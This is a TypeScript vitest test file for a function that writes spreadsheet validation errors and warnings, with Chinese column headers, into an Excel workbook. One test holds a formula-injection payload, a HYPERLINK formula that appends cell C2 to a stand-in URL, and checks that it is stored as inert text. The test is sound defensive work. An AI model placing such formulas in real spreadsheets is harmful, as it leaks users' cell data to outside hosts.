import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { errorReport } from './error-report.js';

async function sheets(bytes: Buffer): Promise<Record<string, unknown[][]>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
  const result: Record<string, unknown[][]> = {};
  for (const sheet of workbook.worksheets) {
    const rows: unknown[][] = [];
    // Empty cells are not written at all: read them back as ''.
    sheet.eachRow((row) => rows.push(Array.from((row.values as unknown[]).slice(1), (value) => value ?? '')));
    result[sheet.name] = rows;
  }
  return result;
}

describe('errorReport', () => {
  it('lists each bad cell by file, sheet, row, column, value and reason, and the warnings apart', async () => {
    const bytes = await errorReport(
      [
        {
          file: 'tax.xlsx',
          sheet: '税务',
          row: 5,
          column: 'tax',
          header: '税收',
          cell: 'D5',
          value: '12万',
          reason: '不是有效数字',
        },
        { file: 'land.csv', row: 2, column: 'landAreaMu', value: '', reason: '必填项为空' },
      ],
      [{ file: 'tax.xlsx', sheet: '税务', row: 9, message: '第 9 行是合计行' }],
    );
    expect(await sheets(bytes)).toEqual({
      错误: [
        ['文件', '工作表', '行', '列', '值', '原因'],
        ['tax.xlsx', '税务', 5, 'D 税收', '12万', '不是有效数字'],
        ['land.csv', '', 2, '用地面积(亩)', '', '必填项为空'],
      ],
      警告: [
        ['文件', '工作表', '行', '列', '说明'],
        ['tax.xlsx', '税务', 9, '', '第 9 行是合计行'],
      ],
    });
  });

  it('echoes a bad value that looks like a formula as a string cell, never a formula', async () => {
    const hostile = '=HYPERLINK("http://x"&C2,"y")';
    const bytes = await errorReport(
      [{ file: '+file.csv', row: 3, column: 'name', value: hostile, reason: '@原因' }],
      [{ file: '-1+1.csv', row: 4, message: '=1+1' }],
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
    const cells: ExcelJS.Cell[] = [];
    for (const sheet of workbook.worksheets)
      sheet.getRow(2).eachCell((cell) => {
        if (typeof cell.value !== 'number') cells.push(cell);
      });
    expect(cells.map((cell) => cell.value)).toEqual([
      '+file.csv',
      '企业名称',
      hostile,
      '@原因',
      '-1+1.csv',
      '=1+1',
    ]);
    for (const cell of cells) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });
});
